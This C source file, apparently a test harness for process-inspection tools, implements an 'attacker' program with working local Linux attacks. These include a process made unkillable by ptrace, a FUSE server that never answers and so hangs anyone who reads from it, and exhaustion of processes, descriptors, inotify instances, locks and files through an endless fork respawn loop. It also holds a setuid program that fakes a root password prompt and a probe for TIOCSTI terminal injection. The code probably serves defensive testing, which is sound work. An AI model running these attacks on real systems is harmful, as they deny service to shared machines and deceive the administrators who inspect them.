// What an ordinary account can do to those who look at its processes. Each attack forks what it needs, says "ready" on a
// line of its own, and lasts until it is killed.
//
// usage: attacker forge ENTRY...           a process with this environment that survives SIGKILL
//        attacker environments COUNT       processes whose environments are 8 MB of zeros
//        attacker hang COUNT FOLDER        processes whose memory is locked: they wait for a file server that never answers
//        attacker descriptors COUNT EACH   processes that share so many open files
//        attacker exhaust PROCESSES FOLDER [MILLISECONDS]
//                                          takes all that the limits of an account leave: so many processes with all their
//                                          descriptors, inotify's instances, locks, and the files of a folder; tries to
//                                          have one more each millisecond, or as seldom as is said
//        attacker fill FILE                fills a file, again and again, as fast as it can
//        attacker hold FILE                holds the lock of a file for ever
//        attacker sudo USER FILE FOLDER ENTRY...
//                                          a set-user-ID program that has become root, with this environment, and survives
//                                          SIGKILL: it writes to a file server that never answers
//        attacker ask                      such a program: it asks for a password
//        attacker show                     what a program was handed: says it and ends
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <linux/prctl.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static void fail(const char *what) {
  fprintf(stderr, "attacker: unable to %s: %s\n", what, strerror(errno));
  exit(1);
}

static void ready(void) {
  puts("ready");
  fflush(stdout);
}

static pid_t fork_with_us(void) {
  pid_t pid = fork();
  if (pid < 0) fail("fork");
  if (pid == 0) prctl(PR_SET_PDEATHSIG, SIGKILL);
  return pid;
}

static void wait_for_ever(void) {
  while (1) pause();
}

// A tracee that is stopped in PTRACE_EVENT_EXIT is dying already, and does not hear SIGKILL.
static void forge(char **entries) {
  pid_t pid = fork_with_us();
  if (pid == 0) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    char *words[] = {"true", NULL};
    execve("/bin/true", words, entries);
    _exit(1);
  }
  int status;
  waitpid(pid, &status, 0);
  if (ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_TRACEEXIT | PTRACE_O_EXITKILL) != 0) fail("trace");
  ptrace(PTRACE_CONT, pid, 0, 0);
  while (waitpid(pid, &status, 0) == pid && status >> 8 != (SIGTRAP | PTRACE_EVENT_EXIT << 8))
    ptrace(PTRACE_CONT, pid, 0, 0);
  printf("%d\n", pid);
  ready();
  wait_for_ever();
}

// Lets our environment be what lies at an address (PR_SET_MM_MAP of prctl(2)).
static void move_environment(char *start, size_t size) {
  char text[2048], *rest;
  int file = open("/proc/self/stat", O_RDONLY);
  ssize_t length = read(file, text, sizeof text - 1);
  close(file);
  if (length <= 0) fail("read /proc/self/stat");
  text[length] = 0;
  unsigned long long field[53] = {0};
  rest = strrchr(text, ')') + 1;
  for (int number = 3; number <= 51; number++) {
    while (*rest == ' ') rest++;
    field[number] = number == 3 ? 0 : strtoull(rest, NULL, 10);
    while (*rest && *rest != ' ') rest++;
  }
  struct prctl_mm_map map = {
      .start_code = field[26], .end_code = field[27], .start_data = field[45], .end_data = field[46],
      .start_brk = field[47], .brk = (unsigned long long)(uintptr_t)sbrk(0), .start_stack = field[28],
      .arg_start = field[48], .arg_end = field[49],
      .env_start = (unsigned long long)(uintptr_t)start,
      .env_end = (unsigned long long)(uintptr_t)start + size, .exe_fd = -1};
  if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof map, 0) != 0) fail("move the environment");
}

static void environments(int count) {
  size_t size = 8 << 20;
  // The zero page is enough: it costs the account nothing.
  char *zeros = mmap(NULL, size, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (zeros == MAP_FAILED) fail("map memory");
  move_environment(zeros, size);
  while (count-- > 0)
    if (fork_with_us() == 0) wait_for_ever();
  ready();
  wait_for_ever();
}

// --- A file server that reads, and never answers what is written ---

static void answer(int device, unsigned long long unique, int error, const void *data, size_t size) {
  static char bytes[1 << 17];
  struct fuse_out_header header = {.len = sizeof header + size, .error = error, .unique = unique};
  memcpy(bytes, &header, sizeof header);
  if (size) memcpy(bytes + sizeof header, data, size);
  if (write(device, bytes, header.len) < 0) fail("answer");
}

static void serve(int device) {
  static char request[1 << 17], zeros[1 << 16];
  int opened_before = 0;
  while (read(device, request, sizeof request) > 0) {
    struct fuse_in_header *header = (void *)request;
    struct fuse_attr file = {
        .ino = header->nodeid, .size = 1 << 16, .mode = header->nodeid == 1 ? S_IFDIR | 0755 : S_IFREG | 0666, .nlink = 1};
    struct fuse_init_out init = {
        .major = FUSE_KERNEL_VERSION, .minor = FUSE_KERNEL_MINOR_VERSION, .max_write = 4096};
    struct fuse_attr_out attributes = {.attr_valid = 3600, .attr = file};
    struct fuse_entry_out entry = {.nodeid = 2, .entry_valid = 3600, .attr_valid = 3600, .attr = file};
    struct fuse_open_out opened = {.fh = 1, .open_flags = opened_before ? FOPEN_DIRECT_IO | FOPEN_KEEP_CACHE : 0};
    entry.attr.ino = 2;
    entry.attr.mode = S_IFREG | 0666;
    switch (header->opcode) {
    case FUSE_INIT: answer(device, header->unique, 0, &init, sizeof init); break;
    case FUSE_GETATTR: answer(device, header->unique, 0, &attributes, sizeof attributes); break;
    case FUSE_LOOKUP: answer(device, header->unique, 0, &entry, sizeof entry); break;
    case FUSE_OPEN:
      answer(device, header->unique, 0, &opened, sizeof opened);
      opened_before = 1;
      break;
    case FUSE_READ: {
      struct fuse_read_in *wanted = (void *)(header + 1);
      answer(device, header->unique, 0, zeros, wanted->size < sizeof zeros ? wanted->size : sizeof zeros);
      break;
    }
    case FUSE_WRITE: case FUSE_FORGET: case FUSE_INTERRUPT: break;
    default: answer(device, header->unique, -ENOSYS, NULL, 0);
    }
  }
}

static void write_line(const char *path, const char *line) {
  int file = open(path, O_WRONLY);
  if (file < 0 || write(file, line, strlen(line)) < 0) fail(path);
  close(file);
}

// Mounts such a server, for these users of its namespace; says which process it is, and opens its file, whose path is in
// `path`.
static int file_of_server(const char *folder, int user, int group, pid_t *server, char path[128]) {
  int device = open("/dev/fuse", O_RDWR);
  if (device < 0) fail("open /dev/fuse");
  snprintf(path, 128, "fd=%d,rootmode=40000,user_id=%d,group_id=%d", device, user, group);
  if (mount("attack", folder, "fuse", MS_NOSUID | MS_NODEV, path) != 0) fail("mount");
  if (setresgid(group, group, group) != 0 || setresuid(user, user, user) != 0) fail("be the account again");
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  *server = fork_with_us();
  if (*server == 0) {
    serve(device);
    _exit(0);
  }
  // The server alone keeps the connection: when it is killed, all who wait go on.
  close(device);
  snprintf(path, 128, "%s/file", folder);
  return open(path, O_RDWR);
}

static void hang(int count, const char *folder) {
  char path[128];
  pid_t server;
  int user = getuid(), group = getgid();
  if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) fail("make a user namespace");
  write_line("/proc/self/setgroups", "deny");
  snprintf(path, sizeof path, "0 %d 1", user);
  write_line("/proc/self/uid_map", path);
  snprintf(path, sizeof path, "0 %d 1", group);
  write_line("/proc/self/gid_map", path);
  int file = file_of_server(folder, 0, 0, &server, path);
  char *memory = file < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
  if (memory == MAP_FAILED) fail("map the file");
  memory[0] = 1;
  // Who maps it for direct access has what is cached written first, and holds the lock of his memory meanwhile.
  while (count-- > 0) {
    if (fork_with_us() != 0) continue;
    int direct = open(path, O_RDWR);
    if (direct < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, direct, 0) == MAP_FAILED) fail("map the file again");
    wait_for_ever();
  }
  usleep(300000);
  printf("%d\n", server);
  ready();
  wait_for_ever();
}

// --- Descriptors, locks, and what was handed over ---

static int share(void *nothing) {
  (void)nothing;
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  wait_for_ever();
  return 0;
}

static void descriptors(int count, int each) {
  struct rlimit limit;
  getrlimit(RLIMIT_NOFILE, &limit);
  limit.rlim_cur = limit.rlim_max;
  setrlimit(RLIMIT_NOFILE, &limit);
  int had = 0;
  while (had < each && dup(0) >= 0) had++;
  while (count-- > 0) {
    char *stack = malloc(65536);
    if (stack == NULL || clone(share, stack + 65536, CLONE_FILES | SIGCHLD, NULL) < 0) fail("clone");
  }
  printf("%d\n", had);
  ready();
  wait_for_ever();
}

static void take_descriptors(void) {
  int file = open("/dev/null", O_RDONLY);
  while (dup(file) >= 0) continue;
}

static void exhaust(int processes, const char *folder, int pause) {
  char path[4096];
  struct rlimit limit = {.rlim_cur = processes, .rlim_max = processes};
  // Debian's limit of descriptors; more of them would only take longer to make.
  struct rlimit descriptors = {.rlim_cur = 1024, .rlim_max = 1024};
  if (setrlimit(RLIMIT_NPROC, &limit) != 0 || setrlimit(RLIMIT_NOFILE, &descriptors) != 0) fail("set limits");
  int watchers = 0, files = 0, locks = 0, forked = 0;
  while (inotify_init() >= 0) watchers++;
  while (files < 1000000) {
    snprintf(path, sizeof path, "%s/%d-%d", folder, getuid(), files);
    int file = open(path, O_WRONLY | O_CREAT, 0600);
    if (file < 0) break;
    files++;
    close(file);
  }
  int ours = open("/proc/self/exe", O_RDONLY);
  for (struct flock lock = {.l_type = F_RDLCK, .l_len = 1}; locks < 2000 && fcntl(ours, F_SETLK, &lock) == 0; locks++)
    lock.l_start += 2;
  while (1) {
    pid_t pid = fork();
    if (pid < 0) break;
    forked++;
    if (pid != 0) continue;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    take_descriptors();
    wait_for_ever();
  }
  take_descriptors();
  fprintf(stderr, "%d processes, %d instances of inotify, %d files, %d locks\n", forked, watchers, files, locks);
  ready();
  // What ends of ours is started again at once.
  while (1) {
    pid_t pid = fork();
    if (pid == 0) wait_for_ever();
    if (pid < 0) usleep(1000 * pause);
  }
}

static void fill(const char *path) {
  static char bytes[1 << 16];
  memset(bytes, 1, sizeof bytes);
  int file = open(path, O_WRONLY);
  if (file < 0) fail("open it");
  ready();
  while (1) {
    fallocate(file, FALLOC_FL_KEEP_SIZE, 0, 1L << 40);
    while (write(file, bytes, sizeof bytes) > 0) continue;
    lseek(file, 0, SEEK_SET);
  }
}

static void hold(const char *path) {
  int file = open(path, O_RDONLY);
  if (file < 0 || flock(file, LOCK_EX | LOCK_NB) != 0) fail("lock it");
  ready();
  wait_for_ever();
}

// --- Programs that become root for whoever starts them ---

static void ask(void) {
  if (setresuid(0, 0, 0) != 0) fail("become root");
  // It goes wherever the starter wants it.
  if (write(STDOUT_FILENO, "password: ", 10) < 0) fail("ask");
  wait_for_ever();
}

// We begin as root, as the set-user-ID program fusermount3 does, by which an account has such a server mounted for root to see.
static void become_root(int user, char *program, const char *folder, char **entries) {
  char path[128], *words[] = {"attacker", "ask", NULL};
  pid_t server;
  int file = file_of_server(folder, user, user, &server, path);
  pid_t pid = fork();
  if (file < 0 || pid < 0) fail("begin the program");
  if (pid == 0) {
    dup2(file, STDOUT_FILENO);
    execve(program, words, entries);
    fail("execute it");
  }
  usleep(300000);
  printf("%d\n", pid);
  ready();
  wait_for_ever();
}

static void show(char **environment) {
  char folder[256];
  int terminal = open("/dev/tty", O_RDWR);
  printf("terminal %s\n", terminal < 0 ? "none" : "ours");
  // Words put into a terminal would be read by the shell that comes after.
  int puts_words = 0;
  for (int fd = 0; fd < 3; fd++) puts_words |= ioctl(fd, TIOCSTI, "#") == 0;
  printf("words %s\n", puts_words ? "yes" : "no");
  printf("truncates %s\n", ftruncate(1, 0) == 0 ? "yes" : "no");
  printf("folder %s\n", getcwd(folder, sizeof folder));
  printf("alone %s\n", getsid(0) == getpid() ? "yes" : "no");
  for (int fd = 3; fd < 64; fd++)
    if (fd != terminal && fcntl(fd, F_GETFD) >= 0) printf("descriptor %d\n", fd);
  for (; *environment; environment++) printf("entry %s\n", *environment);
}

int main(int count, char **words, char **environment) {
  const char *what = count > 1 ? words[1] : "";
  prctl(PR_SET_PDEATHSIG, SIGKILL);
  if (strcmp(what, "forge") == 0) forge(words + 2);
  else if (strcmp(what, "environments") == 0 && count == 3) environments(atoi(words[2]));
  else if (strcmp(what, "hang") == 0 && count == 4) hang(atoi(words[2]), words[3]);
  else if (strcmp(what, "descriptors") == 0 && count == 4) descriptors(atoi(words[2]), atoi(words[3]));
  else if (strcmp(what, "exhaust") == 0 && count >= 4)
    exhaust(atoi(words[2]), words[3], count > 4 ? atoi(words[4]) : 1);
  else if (strcmp(what, "fill") == 0 && count == 3) fill(words[2]);
  else if (strcmp(what, "hold") == 0 && count == 3) hold(words[2]);
  else if (strcmp(what, "sudo") == 0 && count >= 5) become_root(atoi(words[2]), words[3], words[4], words + 5);
  else if (strcmp(what, "ask") == 0) ask();
  else if (strcmp(what, "show") == 0) show(environment);
  else return 64;
  return 0;
}
